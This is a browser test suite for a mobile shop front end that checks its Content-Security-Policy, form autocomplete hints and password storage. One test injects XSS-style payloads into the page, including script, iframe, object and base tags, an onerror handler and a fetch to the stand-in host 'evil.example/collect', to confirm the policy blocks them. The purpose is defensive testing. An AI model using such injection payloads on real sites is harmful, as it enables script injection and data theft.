import { createHash } from 'node:crypto'
import { pagePolicy } from '../../config/security-policy'
import { shops } from '../support/shop-settings'
import { until } from '../support/until'
import { uploadAvatar } from './choose-avatar'
import { answersLike } from './each-shop'
import { Phone } from './phone'

const noCaptcha = { home_user_register_img_verify_state: 0 }
let phone: Phone

beforeAll(async () => {
  phone = await Phone.open()
  await phone.page.exposeFunction('tellRefused', (what: string) => refused.push(what))
  await phone.page.addInitScript(() => {
    const tell: unknown = Reflect.get(window, 'tellRefused')
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      if (typeof tell === 'function') tell(`${violatedDirective} ${blockedURI}`)
    })
  })
})
beforeEach(() => {
  refused.length = 0
  phone.troubles.splice(0)
})
afterAll(() => phone?.close())

const refused: string[] = []

test('the page carries its policy, which allows one script and one style of its own by their hashes', async () => {
  await phone.startAfresh('home')
  const content = await phone.page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content')
  const page = await (await fetch(`${phone.origin}/`)).text()
  const hashOf = (tag: string) => {
    // The operator's settings stand in the page as data, which no browser runs.
    const all = [...page.matchAll(new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`, 'g'))]
    expect(all).toHaveLength(1)
    return `'sha256-${createHash('sha256')
      .update(all[0]?.[1] ?? '')
      .digest('base64')}'`
  }
  const allowed = pagePolicy
    .replace("script-src 'self'", `script-src 'self' ${hashOf('script')}`)
    .replace("style-src 'self'", `style-src 'self' ${hashOf('style')}`)
  expect(content).toBe(allowed)
  expect(content).not.toMatch(/unsafe/)
  const answer = await fetch(`${phone.origin}/`)
  expect(answer.headers.get('Content-Security-Policy')).toBe(`${allowed}; frame-ancestors 'none'`)
})

describe.each(shops)('a shop of %s', (generation) => {
  answersLike(generation, () => phone)

  test('every screen and picker works within the policy', async () => {
    await phone.startAfresh('sign-in')
    await phone.screen.locator('.ac-captcha-picture').waitFor()
    await phone.startAfresh('register', noCaptcha)
    await phone.register('zhang_san')
    await phone.button('个人资料').tap()
    for (const name of ['性别', '生日', '所在地区']) {
      await phone.screen.getByRole('button', { name: new RegExp(`^${name}`) }).tap()
      const done = name === '性别' ? '取消' : '确定'
      await phone.page.getByRole('dialog').getByRole('button', { name: done }).tap()
      await phone.page.getByRole('dialog').waitFor({ state: 'detached' })
    }
    // Older shops save nobody without a nickname.
    await phone.field('昵称').fill('张三')
    await uploadAvatar(phone, await phone.page.screenshot())
    await phone.button('保存').tap()
    await phone.toast('已保存')
    await phone.visit('account/bind-mobile')
    await phone.field('手机号').waitFor()
    await phone.visit('agreement')
    await phone.screen.locator('.ac-agreement-text p').first().waitFor()
    expect(refused).toEqual([])
    expect(phone.troubles).toEqual([])
  })
})

test('the screen of a closed shop works within the policy', async () => {
  await phone.startAfresh('register', { home_site_app_state: ['h5'] })
  await phone.heading('商城暂停服务').waitFor()
  expect(refused).toEqual([])
  expect(phone.troubles).toEqual([])
})

test('an injected script does not run, neither inline nor foreign', async () => {
  await phone.startAfresh('home')
  await phone.button('登录').waitFor()
  const asked: string[] = []
  // What the policy refuses is announced as a request, but never gets as far as the network.
  await phone.page.route(/evil\.example/, (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  await phone.page.evaluate(() => {
    const add = (name: string, attributes: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(name), { textContent: text })
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
    }
    add('script', {}, 'window.__ran = 1')
    add('script', { src: 'https://evil.example/x.js' })
    add('iframe', { src: 'https://evil.example/' })
    add('object', { data: 'https://evil.example/x.swf' })
    add('img', { src: 'x', onerror: 'window.__ran = 1' })
    add('base', { href: 'https://evil.example/' })
    void fetch('https://evil.example/collect').catch(() => {})
  })
  const directives = [
    ...['script-src-elem', 'script-src-attr', 'frame-src'],
    ...['object-src', 'connect-src', 'base-uri'],
  ]
  await until('every directive is reported', () =>
    directives.every((name) => refused.some((what) => what.startsWith(`${name} `))),
  )
  expect(await phone.page.evaluate(() => Reflect.get(window, '__ran'))).toBeUndefined()
  expect(asked).toEqual([])
})

test('password managers and keyboards know what every field is for', async () => {
  const shown = () =>
    phone.screen
      .locator('input:not([type=checkbox]):not([type=radio])')
      .evaluateAll((fields) =>
        fields.map((field) =>
          [
            field.getAttribute('aria-label'),
            field.getAttribute('type') ?? 'text',
            field.getAttribute('autocomplete'),
          ].join(' '),
        ),
      )
  const choose = (kind: string) => phone.screen.getByRole('radio', { name: kind }).tap()
  await phone.startAfresh('register', noCaptcha)
  await phone.withoutCaptcha()
  expect(await shown()).toEqual(['用户名 text username', '密码 password new-password'])
  await choose('手机号')
  await phone.field('短信验证码').waitFor()
  expect(await shown()).toEqual(expect.arrayContaining(['手机号 tel tel', '密码 password new-password']))
  expect((await shown()).find((line) => line.startsWith('短信验证码'))).toMatch(/one-time-code$/)
  await choose('邮箱')
  await phone.field('邮箱').waitFor()
  expect(await shown()).toEqual(expect.arrayContaining(['邮箱 email email']))
  await phone.startAfresh('sign-in', { home_user_login_img_verify_state: 0 })
  await phone.field('图形验证码').waitFor({ state: 'detached' })
  expect(await shown()).toEqual(['账号 text username', '密码 password current-password'])
})

test('a typed password is stored nowhere, and no later form offers a field for it', async () => {
  await phone.startAfresh('register', noCaptcha)
  await phone.register('zhang_san')
  await phone.button('个人资料').tap()
  await phone.field('昵称').waitFor()
  expect(await phone.page.evaluate(() => JSON.stringify(Object.entries(localStorage)))).not.toContain(
    'secret12',
  )
  expect(await phone.screen.locator('input[type=password], [autocomplete*=password]').count()).toBe(0)
})
